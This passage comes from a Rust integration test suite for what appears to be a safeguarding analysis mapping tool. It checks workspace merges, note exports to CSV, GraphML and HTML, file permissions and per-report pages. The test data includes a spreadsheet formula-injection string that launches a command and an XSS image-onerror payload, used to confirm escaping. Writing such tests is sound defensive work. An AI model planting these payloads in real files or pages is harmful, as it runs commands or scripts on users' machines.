        {"about": ["person:kai brown|2009-02-02"], "text": hostile},
        {"about": ["person:kai brown|2009-01-01", "place:street:craven:e1 place"], "text": "met there twice"}
    ]});
    std::fs::write(&ws, decided.to_string()).expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    // A new report names Kai Brown with the second date of birth.
    write(&doc(
        "PIS-E001-0003",
        "professional",
        20,
        "CRAVEN",
        json!({"people": [{"role": "CHILD_AT_RISK", "forename": "Kai", "surname": "Brown", "dob": "2009-02-02"}], "locations": [place("E3 place")]}),
    ));
    let (ok, stderr) = run_map(
        dir.path(),
        &key_file,
        &out,
        &[
            "--workspace",
            ws.to_str().expect("utf-8"),
            "--locality",
            "craven",
        ],
        &inputs,
    );
    assert!(ok, "{stderr}");
    assert!(stderr.contains("1 merges applied"), "{stderr}");
    assert_eq!(mode(&ws), 0o600, "written back 0600");
    let kept: Value = serde_json::from_slice(&std::fs::read(&ws).expect("ws")).expect("json");
    assert_eq!(kept["decisions"], decided["decisions"]);
    assert_eq!(kept["notes"], decided["notes"]);
    let map: Value =
        serde_json::from_slice(&std::fs::read(out.join("map.json")).expect("json")).expect("json");
    let kais: Vec<&Value> = map["map"]["entities"]
        .as_array()
        .expect("entities")
        .iter()
        .filter(|e| e["label"] == "Kai Brown")
        .collect();
    assert_eq!(kais.len(), 1, "one Kai Brown: {kais:?}");
    let refs: BTreeSet<&str> = kais[0]["references"]
        .as_array()
        .expect("refs")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(
        refs,
        ["PIS-E001-0001", "PIS-E001-0002", "PIS-E001-0003"]
            .into_iter()
            .collect()
    );
    assert_eq!(
        kais[0]["evidence"],
        json!(["merged by the analyst (workspace)"])
    );
    // The notes go with the merged person and the link into every export.
    assert_eq!(kais[0]["notes"], json!([hostile]));
    let kai = kais[0]["id"].as_u64().expect("id");
    let noted: Vec<&Value> = map["map"]["links"]
        .as_array()
        .expect("links")
        .iter()
        .filter(|l| l["notes"] == json!(["met there twice"]))
        .collect();
    assert_eq!(noted.len(), 1);
    assert!(noted[0]["source"] == kai || noted[0]["target"] == kai);
    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
    assert!(
        i2.lines().any(
            |l| l.starts_with("\"Person\",\"person:kai brown|2009-01-01\"")
                && l.ends_with(",\"'=cmd|' /C calc'!A0 <b>bold</b>\",\"\",\"met there twice\"")
        ),
        "{i2}"
    );
    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
    assert!(graphml.contains(
        "<data key=\"note\">=cmd|&apos; /C calc&apos;!A0 &lt;b&gt;bold&lt;/b&gt;</data>"
    ));
    assert!(graphml.contains("<data key=\"note\">met there twice</data></edge>"));
    let pack = std::fs::read_to_string(out.join("level2-CRAVEN.html")).expect("pack");
    let notes = section(&pack, "Analyst's notes");
    assert!(
        notes.contains(
            "<td>Kai Brown (person)</td><td>=cmd|&#39; /C calc&#39;!A0 &lt;b&gt;bold&lt;/b&gt;</td>"
        ),
        "{notes}"
    );
    assert!(notes.contains("met there twice"), "{notes}");
    // The workspace keeps the day this pack was made; the first pack has no last meeting.
    let today = kept["packs"]["CRAVEN"]["made"].as_str().expect("pack day");
    assert!(today.len() == 10 && today.starts_with("20"), "{today}");
    assert_eq!(kept["packs"]["CRAVEN"]["since"], Value::Null);
    assert!(pack.contains("No earlier pack for this locality is recorded"));
    // A pack made at an earlier meeting: the next one counts what is newly linked from it.
    let mut earlier = kept.clone();
    earlier["packs"]["CRAVEN"] = json!({"made": "2000-01-01", "since": null});
    std::fs::write(&ws, serde_json::to_vec(&earlier).expect("json")).expect("write");
    let (ok, stderr) = run_map(
        dir.path(),
        &key_file,
        &out,
        &[
            "--workspace",
            ws.to_str().expect("utf-8"),
            "--locality",
            "craven",
        ],
        &inputs,
    );
    assert!(ok, "{stderr}");
    let kept: Value = serde_json::from_slice(&std::fs::read(&ws).expect("ws")).expect("json");
    assert_eq!(kept["packs"]["CRAVEN"]["since"], "2000-01-01");
    let pack = std::fs::read_to_string(out.join("level2-CRAVEN.html")).expect("pack");
    // (What it lists is checked in map::pack's unit test.)
    section(&pack, "Newly linked since the last meeting (2000-01-01)");
    assert!(!pack.contains("No earlier pack"));
    assert!(
        map["map"]["possible_links"]
            .as_array()
            .expect("possible")
            .iter()
            .all(|p| p["reason"] != "same name, different date of birth"),
        "merged, so no longer only possible"
    );

    // Not a workspace: refused by name before anything is read.
    std::fs::write(&ws, b"[1, 2, 3]").expect("write");
    let (ok, stderr) = run_map(
        dir.path(),
        &key_file,
        &out,
        &["--workspace", ws.to_str().expect("utf-8")],
        &inputs,
    );
    assert!(!ok && stderr.contains("is not a map workspace"), "{stderr}");
}

#[test]
fn with_reports_each_reference_opens_its_own_report_written_0600_beside_the_map() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    std::fs::create_dir_all(&inputs).expect("dir");
    let xss = "<img src=x onerror=alert(1)>";
    let full = doc(
        "PIS-RPT0-0001",
        "professional",
        1,
        "SELBY",
        json!({"people": [{"role": "PERSON_POSING_RISK", "forename": xss}]}),
    );
    let mut restricted = full.clone();
    restricted["route"] = json!("mace_selby");
    restricted["view"] = json!("restricted");
    std::fs::write(inputs.join("full.age"), seal(&full, &key)).expect("write");
    std::fs::write(inputs.join("restricted.age"), seal(&restricted, &key)).expect("write");
    // A reference the MACE analyst holds only as a restricted view.
    let mut only_restricted = doc(
        "PIS-RPT0-0002",
        "professional",
        2,
        "SELBY",
        json!({"people": [{"forename": "Restricted Only"}]}),
    );
    only_restricted["route"] = json!("mace_selby");
    only_restricted["view"] = json!("restricted");
    std::fs::write(inputs.join("other.age"), seal(&only_restricted, &key)).expect("write");

    let out = dir.path().join("out");
    let (ok, stderr) = run_map(dir.path(), &key_file, &out, &["--reports"], &inputs);
    assert!(ok, "{stderr}");
    let pages = out.join("reports");
    assert_eq!(
        mode(&pages) & 0o777,
        0o700,
        "the reports folder is the analyst's"
    );
    let mut names: Vec<String> = std::fs::read_dir(&pages)
        .expect("reports")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["PIS-RPT0-0001.html", "PIS-RPT0-0002.html"],
        "one page a report, the best view kept"
    );
    let page = std::fs::read_to_string(pages.join("PIS-RPT0-0001.html")).expect("page");
    assert_eq!(mode(&pages.join("PIS-RPT0-0001.html")) & 0o777, 0o600);
    assert!(page.contains("PIS-RPT0-0001"), "the report's own page");
    assert!(!page.contains(xss), "submitter text is escaped in the page");
    assert!(
        page.contains("full view") && !page.contains("restricted view"),
        "the full view is the one kept"
    );
    let other = std::fs::read_to_string(pages.join("PIS-RPT0-0002.html")).expect("page");
    assert!(
        other.contains("Restricted Only") && other.contains("restricted view"),
        "a restricted view when that is all there is"
    );
    let html = std::fs::read_to_string(out.join("map.html")).expect("map.html");
    assert_eq!(
        page_data(&html)["reports"],
        json!(true),
        "the page links its references"
    );

    // Without the flag: no folder, and the page says there are no pages to open.
    let plain = dir.path().join("plain");
    let (ok, stderr) = run_map(dir.path(), &key_file, &plain, &[], &inputs);
    assert!(ok, "{stderr}");
    assert!(!plain.join("reports").exists());
    let html = std::fs::read_to_string(plain.join("map.html")).expect("map.html");
    assert_eq!(page_data(&html)["reports"], json!(false));
}
